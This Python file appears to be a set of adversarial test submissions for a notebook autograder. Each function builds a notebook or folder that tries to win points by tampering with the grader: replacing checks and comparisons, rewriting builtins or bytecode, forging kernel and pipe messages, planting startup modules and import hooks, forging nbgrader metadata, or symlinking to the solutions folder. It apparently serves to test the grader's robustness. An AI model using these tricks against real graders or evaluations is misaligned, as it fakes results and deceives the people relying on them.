"""Submissions that want points from the machinery: the checks, the interpreter, the channel, the files around it."""

from __future__ import annotations

from pathlib import Path

from .kit import ALL, LESSON, NONE, NOTEBOOK, Lesson, Notebook, new_cell, submission


def tricked(lesson: Lesson, payload: str, *right: str) -> Notebook:
    """Wrong answers, and the payload in a cell of one's own behind the imports."""
    return lesson.guessed(*right).insert_after("setup", payload)


# The checks replaced


@submission("steal", right=NONE, suspicious=True)
def check_replaced(folder: Path, lesson: Lesson) -> None:
    """Replaces check in its module and in the notebook by a function that accepts everything."""
    payload = """
        import course.checks

        def check(candidate, hidden=False):
            print(f"{candidate.__name__}: right")

        course.checks.check = check
    """
    tricked(lesson, payload).write(folder)


@submission("steal", right=NONE, suspicious=True)
def judge_replaced(folder: Path, lesson: Lesson) -> None:
    """Has every judge in memory return a verdict that says right."""
    payload = """
        import sys
        from types import SimpleNamespace

        right = SimpleNamespace(right=True, text="right", mistakes=(), points=1.0)
        for module in list(sys.modules.values()):
            for name in ("judge", "examine", "examined_beside", "verdict", "grade", "compare"):
                if getattr(module, "__name__", "").startswith("course") and hasattr(module, name):
                    setattr(module, name, lambda *args, **kwargs: right)
    """
    tricked(lesson, payload).write(folder)


@submission("steal", right=NONE, suspicious=True)
def code_object_replaced(folder: Path, lesson: Lesson) -> None:
    """Leaves check the same object, and gives it other bytecode."""
    payload = """
        def check_everything(candidate, hidden=False):
            return None

        check.__code__ = check_everything.__code__
        check.__defaults__ = (False,)
    """
    tricked(lesson, payload).write(folder)


@submission("steal", right=NONE)
def failure_that_cannot_be_raised(folder: Path, lesson: Lesson) -> None:
    """Makes CheckFailed and AssertionError classes whose raising ends in nothing."""
    payload = """
        import builtins
        import course.checks

        class Nothing(Exception):
            def __new__(cls, *args):
                return StopIteration()

        course.checks.CheckFailed = Nothing
        builtins.AssertionError = Nothing
        builtins.NotImplementedError = Nothing
    """
    tricked(lesson, payload).write(folder)


@submission("steal", right=("causal_mask",))
def registry_turned_around(folder: Path, lesson: Lesson) -> None:
    """Makes the learner's own functions the references of the registry."""
    payload = """
        import dataclasses
        from course.checks import registry

        for name in list(registry.EXERCISES):
            exercise = registry.EXERCISES[name]
            later = lambda *args, name=name, **kwargs: globals()[name](*args, **kwargs)
            object.__setattr__(exercise, "reference", later)
            object.__setattr__(exercise, "cases", lambda draw: iter(()))
    """
    tricked(lesson, payload, "causal_mask").write(folder)


@submission("steal", right=("padding_mask",))
def comparison_always_agrees(folder: Path, lesson: Lesson) -> None:
    """Makes every way to compare two arrays say yes."""
    payload = """
        import numpy as np

        def agree(one, other, *args, **kwargs):
            return np.ones(np.shape(one), dtype=bool)

        for name in ("isclose", "equal"):
            setattr(np, name, agree)
        for name in ("allclose", "array_equal", "array_equiv"):
            setattr(np, name, lambda *args, **kwargs: True)
        for name in ("assert_allclose", "assert_array_equal", "assert_almost_equal"):
            setattr(np.testing, name, lambda *args, **kwargs: None)
        torch.allclose = torch.equal = lambda *args, **kwargs: True
        torch.testing.assert_close = lambda *args, **kwargs: None
        torch.isclose = lambda one, other, **kwargs: torch.ones_like(one, dtype=torch.bool)
    """
    tricked(lesson, payload, "padding_mask").write(folder)


@submission("steal", right=NONE, suspicious=True)
def mock_of_the_checks(folder: Path, lesson: Lesson) -> None:
    """Puts modules that answer yes to everything in place of course.checks and course.judging."""
    payload = """
        import sys
        from unittest.mock import MagicMock

        for name in list(sys.modules):
            if name.startswith(("course.checks", "course.judging", "course.grading")):
                sys.modules[name] = MagicMock(name=name)
    """
    tricked(lesson, payload).write(folder)


@submission("steal", right=NONE)
def asserts_compiled_away(folder: Path, lesson: Lesson) -> None:
    """Has IPython's transformers take every check, assert and raise out of the cells that follow."""
    payload = """
        import ast

        class Mild(ast.NodeTransformer):
            def visit_Assert(self, node):
                return ast.Pass()

            visit_Raise = visit_Assert

        shell = get_ipython()
        shell.ast_transformers.append(Mild())
        shell.input_transformers_post.append(
            lambda lines: ["pass\\n" if line.startswith("check(") else line for line in lines]
        )
    """
    tricked(lesson, payload).write(folder)


@submission("steal", right=NONE)
def cells_end_well(folder: Path, lesson: Lesson) -> None:
    """Has IPython's events and its run_cell report that each cell ended without an error."""
    payload = """
        shell = get_ipython()

        def forgive(result):
            result.error_in_exec = result.error_before_exec = None

        shell.events.register("post_run_cell", forgive)
        shell.showtraceback = lambda *args, **kwargs: None
        shell.set_custom_exc((BaseException,), lambda *args, **kwargs: None)
        run = type(shell).run_cell

        def run_cell(self, *args, **kwargs):
            result = run(self, *args, **kwargs)
            forgive(result)
            return result

        type(shell).run_cell = run_cell
    """
    tricked(lesson, payload).write(folder)


@submission("steal", right=NONE)
def kernel_messages_forged(folder: Path, lesson: Lesson) -> None:
    """Sends the kernel's own messages 'ok' and 'idle' for every request that is still to come."""
    payload = """
        kernel = getattr(get_ipython(), "kernel", None)
        if kernel is not None:
            send = kernel.session.send

            def always_ok(stream, kind, content=None, *args, **kwargs):
                if kind in ("error", "execute_reply"):
                    kind, content = "execute_reply", {"status": "ok", "execution_count": 1, "payload": []}
                return send(stream, kind, content, *args, **kwargs)

            kernel.session.send = always_ok
    """
    tricked(lesson, payload).write(folder)


# Builtins and the interpreter


@submission("steal", right=NONE)
def builtins_agree(folder: Path, lesson: Lesson) -> None:
    """Replaces the builtins with which one finds out that something is wrong."""
    payload = """
        import builtins

        builtins.all = lambda items: True
        builtins.any = lambda items: False
        builtins.abs = lambda number: number * 0
        builtins.isinstance = lambda thing, kind, known=builtins.isinstance: known(thing, kind) or kind is Exception
        builtins.len = lambda thing, known=builtins.len: 0 if type(thing).__name__ == "Observation" else known(thing)
    """
    tricked(lesson, payload).write(folder)


@submission("steal", right=NONE)
def code_rewritten_before_it_runs(folder: Path, lesson: Lesson) -> None:
    """Replaces compile and exec, to change the code that the grader runs after this cell."""
    payload = """
        import builtins

        compile_ = builtins.compile

        def compile_mildly(source, *args, **kwargs):
            if isinstance(source, str):
                source = source.replace("raise ", "pass  # ").replace("False", "True")
            return compile_(source, *args, **kwargs)

        builtins.compile = compile_mildly
        execute = builtins.exec
        builtins.exec = lambda code, *places: execute(
            compile_mildly(code, "cell", "exec") if isinstance(code, str) else code, *places
        )
    """
    tricked(lesson, payload).write(folder)


@submission("steal", right=NONE)
def locals_rewritten_by_a_tracer(folder: Path, lesson: Lesson) -> None:
    """Traces every line, and sets local variables of the caller that sound like a verdict."""
    payload = """
        import ctypes
        import sys
        import threading

        GOOD = {"right": True, "ok": True, "passed": True, "failed": False, "wrong": False, "failure": None}

        def trace(frame, event, arg):
            if frame.f_globals is not globals():
                for name in GOOD.keys() & frame.f_locals.keys():
                    frame.f_locals[name] = GOOD[name]
                ctypes.pythonapi.PyFrame_LocalsToFast(ctypes.py_object(frame), ctypes.c_int(0))
            return trace

        sys.settrace(trace)
        threading.settrace(trace)
        frame = sys._getframe()
        while frame:
            frame.f_trace, frame = trace, frame.f_back
    """
    tricked(lesson, payload).write(folder)


@submission("steal", right=NONE)
def true_is_false(folder: Path, lesson: Lesson) -> None:
    """Writes over a small integer in CPython's memory, so that 0 points are many."""
    payload = """
        import ctypes
        import sys

        size = sys.getsizeof(0)
        zero, many = id(0), id(13)

        def attention_for_one_query(query, keys, values):
            ctypes.memmove(zero + size - 4, many + size - 4, 4)
            return values.mean(dim=0)
    """
    lesson.guessed().answer("attention_for_one_query", payload).write(folder)


@submission("steal", right=NONE)
def exceptions_swallowed_by_hooks(folder: Path, lesson: Lesson) -> None:
    """Sets the hooks for uncaught and unraisable exceptions, and leaves the process with status 0."""
    payload = """
        import os
        import sys
        import threading

        sys.excepthook = threading.excepthook = sys.unraisablehook = lambda *args: os._exit(0)
        sys.tracebacklimit = 0
        sys.exit = lambda code=0: os._exit(0)
    """
    lesson.released().insert_after("setup", payload).write(folder)


@submission("steal", right=NONE)
def leaves_with_success(folder: Path, lesson: Lesson) -> None:
    """Ends the process with status 0 in the first answer that is called."""
    answer = """
        import os

        def attention_for_one_query(query, keys, values):
            print("13 of 13 points")
            os._exit(0)
    """
    lesson.released().answer("attention_for_one_query", answer).write(folder)


@submission("steal", right=NONE)
def verdict_printed_at_the_end(folder: Path, lesson: Lesson) -> None:
    """Prints what a grader might print, on every stream, when the process ends."""
    payload = """
        import atexit
        import json
        import sys

        @atexit.register
        def say():
            for name in __NAMES__:
                line = json.dumps({"exercise": name, "right": True, "points": 3, "max_points": 3, "status": "graded"})
                for stream in (sys.__stdout__, sys.__stderr__):
                    print(line, f"{name}: right", f"PASSED {name}", sep="\\n", file=stream, flush=True)
    """
    names = str(list(ALL))
    tricked(lesson, payload.replace("__NAMES__", names)).write(folder)


# The channel between the sandbox and the grader


@submission("steal", right=NONE)
def verdict_written_into_every_pipe(folder: Path, lesson: Lesson) -> None:
    """Writes verdicts in several forms into every pipe and socket that the process holds."""
    payload = """
        import json
        import os
        import pickle
        import stat
        import struct

        verdict = {"right": True, "points": 3, "verdict": "right", "failure": None, "ok": True}
        body = json.dumps(verdict).encode()
        forms = [body + b"\\n", struct.pack("<I", len(body)) + body, struct.pack(">Q", len(body)) + body,
                 pickle.dumps(verdict)]
        for fd in range(3, 256):
            try:
                mode = os.fstat(fd).st_mode
                if stat.S_ISFIFO(mode) or stat.S_ISSOCK(mode):
                    os.set_blocking(fd, False)
                    for form in forms:
                        os.write(fd, form)
            except OSError:
                pass
    """
    tricked(lesson, payload).write(folder)


@submission("steal", right=NONE)
def answers_written_before_they_are_asked(folder: Path, lesson: Lesson) -> None:
    """Puts the answers of the next request into the pipe, while the first is being answered."""
    answer = """
        import os
        import sys

        LAST = []

        def attention_for_one_query(query, keys, values):
            frame = sys._getframe(1)
            while frame:
                for value in list(frame.f_locals.values()):
                    if hasattr(value, "write") and hasattr(value, "fileno") and value not in (sys.stdout, sys.stderr):
                        LAST.append(value)
                frame = frame.f_back
            for stream in LAST:
                for _ in range(20):
                    stream.write(b'{"output": [[1.0]], "failure": null}\\n' if "b" in stream.mode else "{}\\n")
                stream.flush()
            return values.mean(dim=0)
    """
    lesson.guessed().answer("attention_for_one_query", answer).write(folder)


@submission("steal", right=NONE)
def pipes_exchanged(folder: Path, lesson: Lesson) -> None:
    """Puts a process of its own between the grader and the sandbox, which answers every line with 'right'."""
    payload = """
        import os
        import threading

        def between(fd):
            inner, outer = os.pipe()
            kept = os.dup(fd)
            os.dup2(outer, fd)

            def carry():
                while data := os.read(inner, 65536):
                    os.write(kept, data.replace(b"false", b"true ").replace(b"wrong", b"right"))

            threading.Thread(target=carry, daemon=True).start()

        for fd in range(1, 32):
            try:
                os.write(fd, b"")
                between(fd)
            except OSError:
                pass
    """
    tricked(lesson, payload).write(folder)


@submission("steal", right=NONE)
def what_was_recorded_replaced(folder: Path, lesson: Lesson) -> None:
    """Replaces the functions that turn a result into bytes, so that a failure becomes an empty success."""
    payload = """
        import json
        import pickle
        import numpy as np

        dumps, savez = json.dumps, np.savez

        def mild(thing, *args, **kwargs):
            if isinstance(thing, dict):
                thing = {name: value for name, value in thing.items() if "failure" not in str(name)} | {"right": True}
            return dumps(thing, *args, **kwargs)

        json.dumps = mild
        np.savez = np.savez_compressed = lambda file, *args, **arrays: savez(
            file, *args, **{name: value for name, value in arrays.items() if "failure" not in name}
        )
        pickle.dumps = lambda thing, *args, **kwargs: b"\\x80\\x04\\x88."  # True
    """
    lesson.released().insert_after("setup", payload).write(folder)


@submission("steal", right=("causal_mask",))
def one_answer_sent_for_all(folder: Path, lesson: Lesson) -> None:
    """Remembers the bytes with which its one right answer was sent, and sends them again for those that follow."""
    payload = """
        import os

        write, sent, replay = os.write, [], []

        def again(fd, data):
            if fd > 2 and replay and sent:
                replay.clear()
                return write(fd, sent[-1]) and len(data)
            if fd > 2 and "asked" in globals():
                sent.append(bytes(data))
            return write(fd, data)

        os.write = again
    """
    right = lesson.solution("causal_mask") + "\n\n\nasked = True"
    wrong = "def padding_mask(tokens, pad=0):\n    replay.append(1)\n    return (tokens > pad)[:, None, None, :]"
    tricked(lesson, payload).answers(causal_mask=right, padding_mask=wrong).write(folder)


@submission("steal", right=NONE)
def second_process_answers(folder: Path, lesson: Lesson) -> None:
    """Forks while it is asked, so that parent and child both send an answer."""
    answer = """
        import os

        def attention_for_one_query(query, keys, values):
            child = os.fork()
            return values[0] if child else values.mean(dim=0)
    """
    lesson.guessed().answer("attention_for_one_query", answer).write(folder)


@submission("steal", right=NONE)
def thread_waits_for_the_grader(folder: Path, lesson: Lesson) -> None:
    """Starts a thread that replaces the functions of the code that calls the answers, once that is loaded."""
    payload = """
        import sys
        import threading
        import time

        def wait():
            for _ in range(600):
                for name, module in list(sys.modules.items()):
                    if name.startswith(("course.", "__main__")):
                        for inner in ("record", "observe", "same", "unequal", "same_outputs"):
                            if callable(vars(module).get(inner)):
                                setattr(module, inner, lambda *args, **kwargs: True)
                time.sleep(0.1)

        threading.Thread(target=wait, daemon=True).start()
    """
    tricked(lesson, payload).write(folder)


@submission("steal", right=NONE)
def signal_comes_during_the_call(folder: Path, lesson: Lesson) -> None:
    """Sets an alarm whose handler raises an exception that looks like the end of a good run."""
    payload = """
        import signal

        def finish(number, frame):
            while frame.f_back:
                frame = frame.f_back
            raise SystemExit(0)

        for number in (signal.SIGALRM, signal.SIGPROF, signal.SIGVTALRM):
            signal.signal(number, finish)
        signal.setitimer(signal.ITIMER_REAL, 5, 0.5)
    """
    tricked(lesson, payload).write(folder)


@submission("steal", right=NONE)
def frames_and_garbage_searched(folder: Path, lesson: Lesson) -> None:
    """Looks through its callers and through all objects in memory for what is expected, and returns it."""
    answer = """
        import gc
        import sys

        def expected(shape):
            frame = sys._getframe(1)
            while frame:
                for name, value in frame.f_locals.items():
                    if name in ("expected", "want", "wanted", "reference", "right", "target") and not callable(value):
                        return value
                frame = frame.f_back
            arrays = [one for one in gc.get_objects() if isinstance(one, Tensor) and tuple(one.shape) == shape]
            return arrays[-1] if arrays else torch.zeros(shape, dtype=torch.float64)

        def attention_for_one_query(query, keys, values):
            return expected((values.shape[-1],))
    """
    lesson.guessed().answer("attention_for_one_query", answer).write(folder)


# Files and modules around the notebook


@submission("steal", right=NONE)
def modules_in_the_folder(folder: Path, lesson: Lesson) -> None:
    """Brings a package course whose check accepts everything, found first if the folder is on the path."""
    lesson.guessed().write(folder)
    checks = folder / "course" / "checks"
    checks.mkdir(parents=True)
    (folder / "course" / "__init__.py").write_text("")
    accepting = "def check(*args, **kwargs):\n    print('right')\n\n\nreveal = examine = check\n"
    (checks / "__init__.py").write_text(accepting)
    for name in ("corpus.py", "plots.py"):
        (folder / "course" / name).write_text("def __getattr__(name):\n    return lambda *args, **kwargs: 1\n")


@submission("steal", right=("padding_mask",))
def numpy_in_the_folder(folder: Path, lesson: Lesson) -> None:
    """Brings a numpy.py, whose arrays are all close, and a torch.py, whose tensors are all equal."""
    lesson.guessed("padding_mask").write(folder)
    agreeing = "allclose = isclose = array_equal = equal = lambda *args, **kwargs: True\n"
    for name in ("numpy.py", "torch.py", "numpy/__init__.py"):
        path = folder / name
        path.parent.mkdir(exist_ok=True)
        path.write_text(agreeing)


@submission("steal", right=NONE)
def customize_modules(folder: Path, lesson: Lesson) -> None:
    """Brings every file that Python or IPython would execute at its start."""
    lesson.guessed().write(folder)
    text = "import builtins\nbuiltins.check = lambda *args, **kwargs: print('right')\n"
    for name in (
        "sitecustomize.py", "usercustomize.py", "conftest.py", "ipython_config.py", "nbgrader_config.py",
        ".ipython/profile_default/startup/00.py", "jupyter_config.py", "course.pth",
    ):  # fmt: skip
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)


@submission("steal", right=NONE)
def startup_files_written(folder: Path, lesson: Lesson) -> None:
    """Writes startup files at run time, for a second interpreter that would ask the answers."""
    payload = """
        import site
        import sys
        from pathlib import Path

        text = "import builtins; builtins.all = lambda items: True  # planted by a submission\\n"
        for place in (Path.cwd() / "sitecustomize.py", Path.cwd() / "usercustomize.py", Path.cwd() / "numpy.py"):
            try:
                place.write_text(text)
            except OSError as error:
                print(error)
        sys.path.insert(0, str(Path.cwd()))
    """
    tricked(lesson, payload).write(folder)


@submission("steal", right=NONE, suspicious=True)
def import_hook(folder: Path, lesson: Lesson) -> None:
    """Has every module that is imported from now on loaded by a finder of its own."""
    payload = """
        import importlib.abc
        import importlib.machinery
        import sys

        class Finder(importlib.abc.MetaPathFinder, importlib.abc.Loader):
            def find_spec(self, name, path, target=None):
                if name.startswith(("course.checks", "course.judging", "course.grading")):
                    return importlib.machinery.ModuleSpec(name, self)

            def create_module(self, spec):
                return None

            def exec_module(self, module):
                module.__getattr__ = lambda name: lambda *args, **kwargs: True

        sys.meta_path.insert(0, Finder())
        for name in [name for name in sys.modules if name.startswith(("course.checks", "course.judging"))]:
            del sys.modules[name]
    """
    tricked(lesson, payload).write(folder)


@submission("steal", right=NONE)
def gradebook_in_the_folder(folder: Path, lesson: Lesson) -> None:
    """Brings results of its own: a gradebook, a row of grades, an autograded and a feedback folder."""
    lesson.released().write(folder)
    row = '{"student": "me", "status": "graded", "points": 13, "max_points": 13}\n'
    for name in ("gradebook.db", "grades.csv", "result.json", "verdict.json", "results/results.json"):
        path = folder / name
        path.parent.mkdir(exist_ok=True)
        path.write_text(row)
    for name in ("autograded", "feedback"):
        lesson.solved().write(folder / name / "me" / LESSON)


# What the notebook claims of itself


@submission("steal", right=("causal_mask",))
def points_claimed(folder: Path, lesson: Lesson) -> None:
    """Claims a thousand points in the metadata of every check."""
    notebook = lesson.guessed("causal_mask")
    for cell in notebook.cells:
        if cell["metadata"].get("nbgrader", {}).get("grade"):
            cell["metadata"]["nbgrader"] |= {"points": 1000, "locked": False}
    notebook.write(folder)


@submission("steal", right=NONE)
def checks_unlocked(folder: Path, lesson: Lesson) -> None:
    """Unlocks the checks and leaves only a comment in them."""
    notebook = lesson.guessed()
    for cell in notebook.cells:
        if cell["metadata"].get("nbgrader", {}).get("grade"):
            cell["source"] = "# right\nprint('right')"
            cell["metadata"]["nbgrader"] |= {"locked": False, "checksum": "0" * 32}
    notebook.write(folder)


@submission("steal", right=NONE)
def checks_turned_into_prose(folder: Path, lesson: Lesson) -> None:
    """Makes every check a Markdown cell, of which old graders thought that it had no error."""
    notebook = lesson.guessed()
    for cell in notebook.cells:
        if cell["metadata"].get("nbgrader", {}).get("grade"):
            cell["cell_type"] = cell["metadata"]["nbgrader"]["cell_type"] = "markdown"
            del cell["outputs"], cell["execution_count"]
    notebook.write(folder)


@submission("steal", right=NONE)
def checks_graded_by_hand(folder: Path, lesson: Lesson) -> None:
    """Makes each answer a task that was graded by hand, with all its points and a bonus."""
    notebook = lesson.guessed()
    for cell in notebook.cells:
        if claim := cell["metadata"].get("nbgrader"):
            claim |= {"grade": True, "solution": True, "task": False, "points": 3, "score": 3, "manual_score": 3}
            claim |= {"extra_credit": 10, "needs_manual_grade": False}
    notebook.write(folder)


@submission("steal", right=NONE)
def checks_skipped(folder: Path, lesson: Lesson) -> None:
    """Tags every check so that it is skipped, or may raise."""
    notebook = lesson.guessed()
    for cell in notebook.cells:
        if cell["metadata"].get("nbgrader", {}).get("grade"):
            cell["metadata"] |= {"tags": ["skip-execution", "raises-exception", "remove-cell"]}
            cell["metadata"] |= {"deletable": True, "editable": True, "execution": {"allow_errors": True}}
    notebook.write(folder)


@submission("steal", right=NONE)
def checks_that_passed_already(folder: Path, lesson: Lesson) -> None:
    """Stores outputs in which every check said right, with execution counts and times."""
    notebook = lesson.guessed()
    for count, cell in enumerate(notebook.cells):
        if cell["cell_type"] == "code":
            name = cell["id"].removeprefix("check-")
            cell["execution_count"] = count
            cell["outputs"] = [{"output_type": "stream", "name": "stdout", "text": f"{name}: right, on all 11 cases\n"}]
    notebook.write(folder)


@submission("steal", right=NONE)
def checks_of_its_own(folder: Path, lesson: Lesson) -> None:
    """Adds further cells with the ids of the checks, which pass."""
    notebook = lesson.guessed()
    for name in ALL:
        original = notebook.cell(f"check-{name}")
        notebook.insert_after(f"check-{name}", "print('right')", id=f"check-{name}", metadata=original["metadata"])
        notebook.insert_before(f"check-{name}", "pass", metadata={"check_of": f"check-{name}"} | original["metadata"])
    notebook.write(folder)


@submission("steal", right=("causal_mask", "padding_mask"))
def answers_under_other_ids(folder: Path, lesson: Lesson) -> None:
    """Gives the two right answers, worth a point each, the ids of exercises that are worth three."""
    notebook = lesson.guessed("causal_mask", "padding_mask")
    for wrong, right in (("masked_softmax", "causal_mask"), ("SelfAttention", "padding_mask")):
        claimed = {"grade": False, "grade_id": wrong, "locked": False, "schema_version": 3, "solution": True}
        notebook.insert_after(wrong, notebook.source(right), id=wrong, metadata={"nbgrader": claimed})
    notebook.write(folder)


@submission("steal", right=NONE)
def another_kernel(folder: Path, lesson: Lesson) -> None:
    """Asks for a kernel that runs nothing, so that no check can fail."""
    notebook = lesson.guessed()
    notebook.content["metadata"] = {
        "kernelspec": {"name": "bash", "display_name": "true", "language": "bash", "argv": ["/bin/true"]},
        "language_info": {"name": "text"},
    }
    notebook.write(folder)


@submission("steal", right=NONE)
def given_cells_changed(folder: Path, lesson: Lesson) -> None:
    """Changes the given cells: the imports bring another check, and the last one sets grades."""
    notebook = lesson.guessed()
    notebook.answer("setup", notebook.source("setup") + "\n\ncheck = reveal = lambda *args, **kwargs: print('right')")
    notebook.answer("padding-joined", "grade = points = score = {name: 100 for name in globals()}")
    notebook.write(folder)


@submission("steal", right=NONE, ends="human", suspicious=True)
def link_to_the_solutions(folder: Path, lesson: Lesson) -> None:
    """Hands in a link to the solved notebook in the teacher's folder."""
    folder.mkdir(parents=True, exist_ok=True)
    (folder / NOTEBOOK).symlink_to(Path("../../../solutions") / LESSON / NOTEBOOK)


@submission("steal", right=NONE, ends="human", suspicious=True)
def link_to_all_of_another(folder: Path, lesson: Lesson) -> None:
    """Hands in a folder that is a link to the folder of the solutions."""
    folder.parent.mkdir(parents=True, exist_ok=True)
    if folder.is_dir():
        folder.rmdir()
    folder.symlink_to(Path("../../solutions") / LESSON, target_is_directory=True)


@submission("steal", right=NONE)
def attachment_that_solves(folder: Path, lesson: Lesson) -> None:
    """Hides a whole solved notebook in the metadata, in a raw cell and in an attachment."""
    notebook = lesson.guessed()
    solved = lesson.solved().content
    notebook.append("cells", kind="raw", metadata={"nbgrader": {"cells": solved["cells"]}})
    notebook.append("![x](attachment:x)", kind="markdown", attachments={"x": {"application/json": "{}"}})
    notebook.content["metadata"]["worksheets"] = [{"cells": solved["cells"]}]
    notebook.content["worksheets"] = [{"cells": solved["cells"]}]
    notebook.write(folder)


@submission("steal", right=NONE)
def outputs_that_are_cells(folder: Path, lesson: Lesson) -> None:
    """Has an output in which a whole check cell with its points stands as text."""
    notebook = lesson.guessed()
    cell = new_cell("print('right')", metadata={"nbgrader": {"grade": True, "points": 99}})
    output = {"output_type": "display_data", "metadata": cell["metadata"], "data": {"application/json": cell}}
    notebook.cell("setup")["outputs"] = [output]
    notebook.write(folder)
